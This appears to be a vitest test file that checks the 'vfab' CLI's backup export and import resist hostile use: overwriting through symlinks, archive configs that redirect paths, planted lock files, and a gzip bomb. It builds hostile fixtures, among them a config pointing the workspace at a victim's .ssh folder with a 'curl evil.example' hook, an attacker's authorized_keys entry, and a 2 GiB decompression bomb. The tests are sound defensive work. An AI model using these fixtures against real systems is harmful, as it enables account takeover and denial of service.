/**
 * The archive commands against hostile use, through the built CLI: an export never lands on an
 * existing file unless asked, nor ever on vfab's own files; an imported archive never chooses
 * where vfab reads or writes, never brings owner or lock files, and a gzip bomb is refused having
 * written nothing; an owner file left by another host long ago does not block imports for ever.
 */
import { spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import zlib from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import { FIXTURES, ROOT } from './helpers/cli';
import { useSandbox } from './helpers/cli-sandbox';
import { endWithTest } from './helpers/processes';
import { manifestArchive, rawHeader, treeHash, withExtraMembers } from './helpers/tar-fixtures';

const TRIVIAL = path.join(FIXTURES, 'AxiDraw_trivial.svg');

const sb = useSandbox();

function ok(args: string[]): string {
  const r = sb.run(args);
  expect(r.code, `vfab ${args.join(' ')}: ${r.stderr}`).toBe(0);
  return r.stdout;
}

function sha(file: string): string {
  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

function installationHash(): Record<string, string> {
  return treeHash(sb.dataDir, sb.configFile);
}

function setUp(): void {
  ok(['setup', '--yes']);
  ok(['add', 'job', 'one', TRIVIAL]);
}

describe('export never overwrites', () => {
  beforeEach(setUp);

  it('an existing file is refused (exit 4) and left byte for byte; --force outside the data folder replaces it', () => {
    const target = path.join(sb.root, 'precious.txt');
    fs.writeFileSync(target, 'precious\n');
    const r = sb.run(['system', 'export', '--output', target]);
    expect(r.code).toBe(4);
    expect(r.stderr).toMatch(
      /precious\.txt already exists; nothing was written\. Choose another name, or add --force to replace it/,
    );
    expect(fs.readFileSync(target, 'utf8')).toBe('precious\n');
    expect(fs.readdirSync(sb.root).filter((n) => n.includes('precious.txt.'))).toEqual([]);

    ok(['system', 'export', '--output', target, '--force']);
    expect(ok(['system', 'import', '--backup', target, '--verify', '--json'])).toMatch(
      /"verified"/,
    );
  });

  it('a symbolic link, to a file or dangling, is an existing target', () => {
    const real = path.join(sb.root, 'real.txt');
    fs.writeFileSync(real, 'real\n');
    const link = path.join(sb.root, 'link.tar.gz');
    const dangling = path.join(sb.root, 'dangling.tar.gz');
    fs.symlinkSync(real, link);
    fs.symlinkSync(path.join(sb.root, 'nowhere'), dangling);
    for (const target of [link, dangling]) {
      const r = sb.run(['system', 'export', '--output', target]);
      expect(r.code, r.stderr).toBe(4);
      expect(r.stderr).toMatch(/already exists/);
    }
    expect(fs.readlinkSync(link)).toBe(real);
    expect(fs.readlinkSync(dangling)).toBe(path.join(sb.root, 'nowhere'));
    expect(fs.readFileSync(real, 'utf8')).toBe('real\n');
    expect(fs.existsSync(path.join(sb.root, 'nowhere'))).toBe(false);
  });

  it('config.yaml is refused even with --force, left byte for byte, and every later command works', () => {
    const before = sha(sb.configFile);
    for (const force of [[], ['--force']]) {
      const r = sb.run(['system', 'export', '--output', sb.configFile, ...force]);
      expect(r.code, r.stderr).toBe(5);
      expect(r.stderr).toMatch(
        /is vfab's config file; an export never writes there, even with --force/,
      );
    }
    expect(sha(sb.configFile)).toBe(before);
    expect(ok(['list', 'jobs'])).toMatch(/^one\t/);
    ok(['info', 'system']);
    ok(['add', 'job', 'two', TRIVIAL]);
  });

  it("a job's journal is refused even with --force; the journal stays whole and in the next archive", () => {
    const journal = path.join(sb.jobsDir, 'one', 'journal.jsonl');
    const before = sha(journal);
    for (const force of [[], ['--force']]) {
      const r = sb.run(['system', 'export', '--output', journal, ...force]);
      expect(r.code, r.stderr).toBe(5);
      expect(r.stderr).toMatch(/is in vfab's workspace/);
    }
    expect(sha(journal)).toBe(before);
    expect(ok(['info', 'job', 'one', '--state-only'])).toBe('READY\n');
    const archive = path.join(sb.root, 'after.tar.gz');
    ok(['system', 'export', '--output', archive]);
    const tar = zlib.gunzipSync(fs.readFileSync(archive));
    expect(tar.includes('workspace/jobs/one/journal.jsonl')).toBe(true);
  });

  it('a link to the config, or through a linked folder into the workspace, is refused even with --force', () => {
    const cfg = sha(sb.configFile);
    const link = path.join(sb.root, 'cfg-link.tar.gz');
    fs.symlinkSync(sb.configFile, link);
    const folder = path.join(sb.root, 'looks-harmless');
    fs.symlinkSync(path.join(sb.jobsDir, 'one'), folder);
    const jobFiles = fs.readdirSync(path.join(sb.jobsDir, 'one')).sort();
    for (const force of [[], ['--force']]) {
      const viaLink = sb.run(['system', 'export', '--output', link, ...force]);
      expect(viaLink.code, viaLink.stderr).toBe(5);
      expect(viaLink.stderr).toMatch(/cfg-link\.tar\.gz \(.*config\.yaml\) is vfab's config file/);
      const viaFolder = sb.run([
        'system',
        'export',
        '--output',
        path.join(folder, 'journal.jsonl'),
        ...force,
      ]);
      expect(viaFolder.code, viaFolder.stderr).toBe(5);
      expect(viaFolder.stderr).toMatch(/is in vfab's workspace/);
      expect(
        sb.run(['system', 'export', '--output', path.join(folder, 'new.tar.gz'), ...force]).code,
      ).toBe(5);
    }
    expect(sha(sb.configFile)).toBe(cfg);
    expect(fs.readlinkSync(link)).toBe(sb.configFile);
    expect(fs.readdirSync(path.join(sb.jobsDir, 'one')).sort()).toEqual(jobFiles);
  });

  it('in the data folder only a new archive in its backups folder is written', () => {
    const mine = path.join(sb.dataDir, 'backups', 'mine.tar.gz');
    ok(['system', 'export', '--output', mine]);
    const made = sha(mine);
    for (const force of [[], ['--force']]) {
      const again = sb.run(['system', 'export', '--output', mine, ...force]);
      expect(again.code, again.stderr).toBe(4);
      expect(again.stderr).toMatch(/already exists in the backups folder/);
    }
    expect(sha(mine)).toBe(made);
    const before = installationHash();
    for (const target of [
      path.join(sb.dataDir, 'x.tar.gz'),
      sb.dbFile,
      path.join(sb.dataDir, 'logs', 'x.tar.gz'),
      path.join(sb.dataDir, 'locks', 'x.tar.gz'),
      path.join(sb.jobsDir, 'x.tar.gz'),
    ]) {
      for (const force of [[], ['--force']]) {
        const r = sb.run(['system', 'export', '--output', target, ...force]);
        expect(r.code, `${target}: ${r.stderr}`).toBe(5);
      }
    }
    expect(installationHash()).toEqual(before);
  });
});

describe('an imported archive never chooses paths', () => {
  beforeEach(setUp);

  it('a config pointing workspace and the log outside: the outside stays byte for byte, this installation keeps its paths and says so', () => {
    const victim = path.join(sb.root, 'victim');
    const ssh = path.join(victim, '.ssh');
    fs.mkdirSync(ssh, { recursive: true });
    fs.writeFileSync(path.join(ssh, 'authorized_keys'), 'ssh-ed25519 AAAA the-owner\n');
    const notes = path.join(victim, 'notes.txt');
    fs.writeFileSync(notes, 'keep me\n');
    const outside = treeHash(victim);
    const config = [
      `workspace: ${ssh}`,
      'logging:',
      `  log_file: ${notes}`,
      '  level: DEBUG',
      'backups:',
      `  dir: ${victim}`,
      'device:',
      '  port: /dev/evil',
      'websocket:',
      '  host: 0.0.0.0',
      'hooks:',
      '  COMPLETED:',
      '    - command: curl evil.example',
      'paper:',
      '  default_size: A3',
      '',
    ].join('\n');
    const hostile = path.join(sb.root, 'hostile.tar.gz');
    fs.writeFileSync(
      hostile,
      manifestArchive([
        { name: 'config/config.yaml', body: config },
        { name: 'workspace/authorized_keys', body: 'ssh-ed25519 AAAA the-attacker\n' },
      ]),
    );

    const verified = JSON.parse(
      ok(['system', 'import', '--backup', hostile, '--verify', '--json']),
    ).verified;
    expect(verified.keptSettings.map((k: { key: string }) => k.key).sort()).toEqual([
      'backups.dir',
      'device.port',
      'hooks',
      'logging.log_file',
      'websocket.host',
      'workspace',
    ]);

    const r = sb.run(['system', 'import', '--backup', hostile]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(
      /note: config workspace: this installation's unset was kept; the archive's '.*victim\/\.ssh' was not used/,
    );
    expect(r.stderr).toMatch(
      /note: config logging\.log_file: this installation's unset was kept; the archive's '.*notes\.txt' was not used/,
    );
    expect(r.stderr).toMatch(
      /note: config device\.port: .* the archive's '\/dev\/evil' was not used/,
    );
    expect(treeHash(victim)).toEqual(outside);
    const paths = JSON.parse(ok(['info', 'system', '--json'])).system.paths;
    expect(paths).toMatchObject({
      workspaceDir: path.join(sb.dataDir, 'workspace'),
      logFile: sb.logFile,
    });
    const restored = fs.readFileSync(sb.configFile, 'utf8');
    expect(restored).toMatch(/default_size: A3/);
    expect(restored).not.toContain(victim);
    expect(restored).not.toContain('/dev/evil');
    expect(restored).not.toContain('0.0.0.0');
    expect(restored).not.toContain('evil.example');

    ok(['add', 'job', 'after', TRIVIAL]);
    expect(treeHash(victim)).toEqual(outside);
    const log = fs.readFileSync(sb.logFile, 'utf8');
    expect(log).toMatch(/system import: config workspace: .*victim\/\.ssh' was not used/);
    expect(log).toMatch(/system import: config logging\.log_file/);
  });

  it('an archive made here comes back with its config byte for byte', () => {
    fs.appendFileSync(sb.configFile, `workspace: ${path.join(sb.root, 'my-workspace')}\n`);
    ok(['add', 'job', 'two', TRIVIAL]);
    const archive = path.join(sb.root, 'mine.tar.gz');
    ok(['system', 'export', '--output', archive]);
    const cfg = sha(sb.configFile);
    const r = sb.run(['system', 'import', '--backup', archive]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toMatch(/was not used/);
    expect(sha(sb.configFile)).toBe(cfg);
    expect(fs.readdirSync(path.join(sb.root, 'my-workspace', 'jobs'))).toContain('two');
  });

  it.each([
    [
      'workspace/jobs/one/plot.owner',
      JSON.stringify({
        job: 'one',
        device: 'virtual',
        pid: 4242,
        host: 'elsewhere',
        since: new Date().toISOString(),
        refreshed: new Date().toISOString(),
      }),
    ],
    [
      'locks/device-virtual.owner',
      JSON.stringify({
        job: 'one',
        device: 'virtual',
        pid: 4242,
        host: 'elsewhere',
        since: new Date().toISOString(),
        refreshed: new Date().toISOString(),
      }),
    ],
    ['workspace/jobs/one/pause.request', '1\n'],
    ['workspace/jobs/one/transition.lock', '{}'],
  ])('an archive holding %s is refused and nothing changes', (member, body) => {
    const good = path.join(sb.root, 'good.tar.gz');
    ok(['system', 'export', '--output', good]);
    const altered = path.join(sb.root, 'altered.tar.gz');
    fs.writeFileSync(altered, withExtraMembers(good, [{ name: member, body }]));
    const before = installationHash();
    for (const args of [[], ['--job', 'one', '--as', 'other']]) {
      const r = sb.run(['system', 'import', '--backup', altered, ...args]);
      expect(r.code, r.stderr).toBe(5);
      expect(r.stderr).toContain(`member '${member}'`);
      expect(r.stderr).toMatch(/an export never holds one, so the archive was altered/);
      expect(installationHash()).toEqual(before);
    }
  });
});

/** Total bytes allocated on disk under `dir` (what a filling disk would show). */
function diskUsage(dir: string): number {
  let total = 0;
  const visit = (p: string) => {
    let st: fs.Stats;
    try {
      st = fs.lstatSync(p);
    } catch {
      return; // removed while we looked
    }
    total += st.blocks * 512;
    if (st.isDirectory()) {
      let names: string[] = [];
      try {
        names = fs.readdirSync(p);
      } catch {
        // removed while we looked
      }
      for (const n of names) visit(path.join(p, n));
    }
  };
  visit(dir);
  return total;
}

describe('a gzip bomb', () => {
  beforeEach(setUp);

  it(
    '2 GiB of zeros in a 2 MB archive is refused having written nothing, and leaves no staging folder',
    { timeout: 120_000 },
    async () => {
      const GIB2 = 2 * 1024 ** 3;
      const bomb = path.join(sb.root, 'bomb.tar.gz');
      const manifest = Buffer.from(
        JSON.stringify({
          format: 'vfab-backup',
          format_version: 1,
          vfab_version: 'test',
          created_at: '',
          host: 'x',
          source: {},
          jobs: 0,
          database: false,
          notes: [],
          files: [],
        }),
      );
      async function* tar(): AsyncGenerator<Buffer> {
        yield rawHeader('workspace/jobs/one/src.svg', GIB2);
        const zeros = Buffer.alloc(1024 * 1024);
        for (let i = 0; i < GIB2 / zeros.length; i++) yield zeros;
        yield rawHeader('manifest.json', manifest.length);
        yield Buffer.concat([
          manifest,
          Buffer.alloc((512 - (manifest.length % 512)) % 512),
          Buffer.alloc(1024),
        ]);
      }
      await pipeline(
        Readable.from(tar()),
        zlib.createGzip({ level: 9 }),
        fs.createWriteStream(bomb),
      );
      expect(fs.statSync(bomb).size).toBeLessThan(3 * 1024 * 1024);

      const before = installationHash();
      const start = diskUsage(sb.dataDir);
      let most = start;
      const child = endWithTest(
        spawn(
          process.execPath,
          [path.join(ROOT, 'bin', 'vfab.js'), 'system', 'import', '--backup', bomb],
          { env: sb.env, cwd: sb.root, stdio: ['ignore', 'pipe', 'pipe'] },
        ),
      );
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
      const exited = new Promise<number | null>((resolve) =>
        child.on('exit', (code) => resolve(code)),
      );
      const watch = setInterval(() => {
        most = Math.max(most, diskUsage(sb.dataDir));
      }, 50);
      try {
        const code = await exited;
        expect(stderr).toMatch(
          /'workspace\/jobs\/one\/src\.svg' is in the archive but not in its manifest/,
        );
        expect(code).toBe(5);
      } finally {
        clearInterval(watch);
        if (child.exitCode === null) child.kill();
      }
      expect(most - start).toBeLessThan(4 * 1024 * 1024);
      expect(fs.readdirSync(sb.dataDir).filter((n) => n.startsWith('.import-'))).toEqual([]);
      expect(installationHash()).toEqual(before);
    },
  );
});

describe('an owner left by another host', () => {
  beforeEach(setUp);

  it('blocks an import while fresh (exit 9), and not once it is long silent', () => {
    const archive = path.join(sb.root, 'a.tar.gz');
    ok(['system', 'export', '--output', archive]);
    ok(['add', 'job', 'two', TRIVIAL]);
    const owner = path.join(sb.jobsDir, 'two', 'plot.owner');
    const write = (at: Date) => {
      fs.writeFileSync(
        owner,
        JSON.stringify({
          job: 'two',
          device: 'virtual',
          pid: 4242,
          host: `not-${os.hostname()}`,
          since: at.toISOString(),
          refreshed: at.toISOString(),
        }),
      );
      fs.utimesSync(owner, at, at);
    };
    write(new Date());
    const busy = sb.run(['system', 'import', '--backup', archive]);
    expect(busy.code, busy.stderr).toBe(9);
    expect(busy.stderr).toMatch(/job 'two' \(pid 4242 on not-/);

    write(new Date(Date.now() - 3_600_000));
    const r = sb.run(['system', 'import', '--backup', archive]);
    expect(r.code, r.stderr).toBe(0);
    expect(ok(['list', 'jobs'])).not.toMatch(/^two\t/m);
  });
});
